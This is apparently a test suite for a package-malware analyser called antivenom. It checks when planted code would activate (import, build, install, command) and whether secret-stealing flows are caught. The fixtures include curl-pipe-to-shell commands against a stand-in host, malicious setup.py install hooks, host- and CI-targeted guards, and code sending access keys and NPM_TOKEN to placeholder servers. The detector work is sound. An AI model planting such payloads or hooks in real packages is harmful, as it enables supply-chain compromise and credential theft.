"""When does it run? Every fact has the strongest activation that reaches it."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import textwrap

import pytest

from antivenom.analysis import reach
from antivenom.model.label import Activation, Role, Root
from tests.analysis.machines import Seen, run
from tests.analysis.scripts import run_js

ACT = "import os\nos.system('curl https://evil.invalid | sh')\n"
FUNCTION = "import os\ndef act():\n    os.system('curl https://evil.invalid | sh')\n"


def when(seen: Seen, member: str = "") -> set[str]:
    return {f.activation for f in seen.of("process.shell") if member in ("", f.member)}


def at(files: dict[str, str], *roots: Root, roles: dict[str, Role] | None = None) -> set[str]:
    dedented = {k: textwrap.dedent(v) for k, v in files.items()}
    return when(run(dedented, roots=list(roots) or None, roles=roles))


def test_top_level_of_a_package_runs_on_import() -> None:
    assert at({"demo/__init__.py": ACT}) == {"import"}


def test_a_function_nobody_calls_runs_when_called() -> None:
    assert at({"demo/__init__.py": FUNCTION}) == {"call"}


def test_a_function_called_at_the_top_level_runs_on_import() -> None:
    assert at({"demo/__init__.py": FUNCTION + "act()"}) == {"import"}


def test_a_module_that_the_package_imports_runs_on_import() -> None:
    assert at({"demo/__init__.py": "from . import x", "demo/x.py": ACT}) == {"import"}


def test_a_module_that_an_unread_module_imports_runs_on_import() -> None:
    files = {"demo/__init__.py": "from .a import b", "demo/a/__init__.py": "from . import b", "demo/a/b.py": ACT}  # fmt: skip
    assert at(files) == {"import"}


def test_setup_runs_on_build() -> None:
    assert at({"setup.py": ACT}) == {"build"}


def test_what_setup_imports_runs_on_build() -> None:
    assert at({"setup.py": "import helper", "helper.py": ACT}) == {"build"}


CMDCLASS = """
    from setuptools import setup
    from setuptools.command.{module} import {name}
    import os
    class Custom({name}):
        def run(self):
            os.system('curl https://evil.invalid | sh')
    setup(name='demo', cmdclass={{'{key}': Custom}})
"""


@pytest.mark.parametrize(
    ("module", "name", "expected"),
    [("install", "install", "install"), ("develop", "develop", "install"), ("build_py", "build_py", "build"),
     ("sdist", "sdist", "build"), ("egg_info", "egg_info", "build")],
)  # fmt: skip
def test_command_classes(module: str, name: str, expected: str) -> None:
    text = CMDCLASS.format(module=module, name=name, key=name)
    assert at({"setup.py": text}) == {expected}


def test_command_class_by_dict_call_and_by_unpacking() -> None:
    for given in ("cmdclass=dict(install=Custom)", "**{'cmdclass': {'install': Custom}}"):
        text = CMDCLASS.format(module="install", name="install", key="install")
        text = text.replace("cmdclass={'install': Custom}", given)
        assert at({"setup.py": text}) == {"install"}, given


def test_entry_points_run_on_command() -> None:
    root = Root(member="demo/cli.py", activation=Activation.RUN, function="act")
    assert at({"demo/cli.py": FUNCTION}, root) == {"run"}


def test_an_entry_point_may_be_a_method() -> None:
    text = FUNCTION.replace("def act", "class A:\n  def act").replace("():", "(self):")
    root = Root(member="demo/cli.py", activation=Activation.RUN, function="A.act")
    assert at({"demo/cli.py": text}, root) == {"run"}


def test_startup_is_stronger_than_import() -> None:
    roots = [
        Root(member="demo/__init__.py", activation=Activation.IMPORT),
        Root(member="demo/__init__.py", activation=Activation.STARTUP),
    ]
    assert at({"demo/__init__.py": ACT}, *roots) == {"startup"}


def test_the_main_guard_runs_on_command_in_a_module_and_always_in_a_script() -> None:
    guarded = (
        "if __name__ == '__main__':\n    import os\n    os.system('curl https://evil.invalid | sh')"
    )
    assert at({"demo/__init__.py": guarded}) == {"run"}
    assert at({"setup.py": guarded}) == {"build"}


def test_tests_are_tests() -> None:
    seen = run(
        {"demo/__init__.py": "x = 1", "tests/test_demo.py": ACT},
        roles={"tests/test_demo.py": Role.TEST},
    )
    assert when(seen) == {"test"}
    assert {f.role for f in seen.facts} == {"test"}


def test_a_test_that_the_package_imports_is_none() -> None:
    files = {"demo/__init__.py": "import demo.tests.x", "demo/tests/__init__.py": "", "demo/tests/x.py": ACT}  # fmt: skip
    assert at(files, roles={"demo/tests/x.py": Role.TEST}) == {"import"}


@pytest.mark.parametrize(
    "how",
    [
        "import threading\nthreading.Thread(target=act).start()",
        "import atexit\natexit.register(act)",
        "import asyncio\nasync def go():\n    act()\nasyncio.run(go())",
        "try:\n    1 / 0\nexcept ZeroDivisionError:\n    act()",
        "class A:\n    def __init__(self):\n        act()\nA()",
        "class A:\n    act()",
        "class A:\n    def __del__(self):\n        act()\nA()",
        "[act() for _ in range(2)]",
        "(lambda: act())()",
        "globals()['act']()",
        "x = act if True else None\nx()",
        "def outer():\n    def inner():\n        act()\n    inner()\nouter()",
        "def gen():\n    yield act()\nnext(gen())",
        "with open('x') as f:\n    act()",
        "for _ in [1]:\n    act()",
        "while True:\n    act()\n    break",
        "@lambda f: f()\ndef g():\n    act()",
        "class M(type):\n    def __new__(c, *a):\n        act()\nM('x', (), {})",
        "def f(x=act()):\n    pass",
    ],
)
def test_every_way_to_run_it_on_import(how: str) -> None:
    assert at({"demo/__init__.py": FUNCTION + how}) == {"import"}


# ---------------------------------------------------------------- guards


@pytest.mark.parametrize(
    "test",
    ["os.getlogin() == 'root'", "socket.gethostname().startswith('dev')",
     "os.environ.get('CI')", "getpass.getuser() != 'x'"],
)  # fmt: skip
def test_a_chosen_target_is_a_guard(test: str) -> None:
    seen = run(
        f"import os, socket, getpass\nif {test}:\n    os.system('curl https://evil.invalid | sh')\n"
    )
    assert [f.line for f in seen.of("guard.target")] == [2]
    assert when(seen) == {"import"}


def test_a_constant_condition_hides_nothing() -> None:
    for text in ("if False:\n    {}", "if 0 > 1:\n    {}", "if not []:\n    pass\nelse:\n    {}",
                 "while False:\n    {}"):  # fmt: skip
        body = text.format("__import__('os').system('curl https://evil.invalid | sh')")
        assert when(run("import os\n" + body)) == {"import"}, text


def test_an_early_return_hides_nothing() -> None:
    seen = run(
        "import os, random\ndef f():\n    if random.random():\n        return\n"
        "    os.system('curl https://evil.invalid | sh')\nf()"
    )
    assert when(seen) == {"import"}


def test_a_long_function_inside_a_function_is_evaluated() -> None:
    filler = "\n".join(f"        step_{n} = {n}" for n in range(60))
    seen = run(
        "def __getattr__(name):\n"
        "    if name == '_old':\n"
        "        def voice():\n"
        f"{filler.replace('        ', '            ')}\n"
        "            sh = __import__('os')\n"
        "            sh.system('id > /tmp/x')\n"
        "        voice()\n"
        "    raise AttributeError(name)\n"
    )
    assert "process.shell" in seen.ids()


def test_calls_that_carry_nothing_do_not_use_up_a_function() -> None:
    calls = "\n".join(f"Keys(helper({n}), other({n}))" for n in range(40))
    seen = run(
        {
            "demo/__init__.py": "",
            "demo/keys.py": (
                "import requests\n"
                "class Keys:\n"
                "    def __init__(self, access_key_id='', access_key_secret=''):\n"
                "        self.key = access_key_secret\n"
                "        data = {'a': access_key_id, 's': self.key}\n"
                "        requests.post('https://sdk.invalid/a', json=data)\n"
            ),
            "demo/use.py": f"from demo.keys import Keys\nfrom os import getenv\n{calls}\n"
            "Keys(getenv('A_TOKEN'), 1)\nKeys(getenv('B_TOKEN'), 2)\nKeys(getenv('C_TOKEN'), 3)\n",
        }
    )
    assert {f.path_class for f in seen.of("secrets.given->net.send")} >= {"secret"}


def test_of_too_many_functions_the_unlike_ones_are_evaluated(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(reach, "MAX_STRANGERS", 20)
    copies = "".join(
        f"exports.f{n} = e => fetch('https://one.invalid/' + e + {n});" for n in range(60)
    )
    thief = (
        "exports.last = () => require('https').request('https://two.invalid',"
        " {method: 'POST'}).end(process.env.NPM_TOKEN);"
    )
    seen = run_js(copies + thief)
    assert "secrets.env->net.send" in seen.flows()
    assert seen.skimmed == {"index.js"}
    assert not seen.exhausted
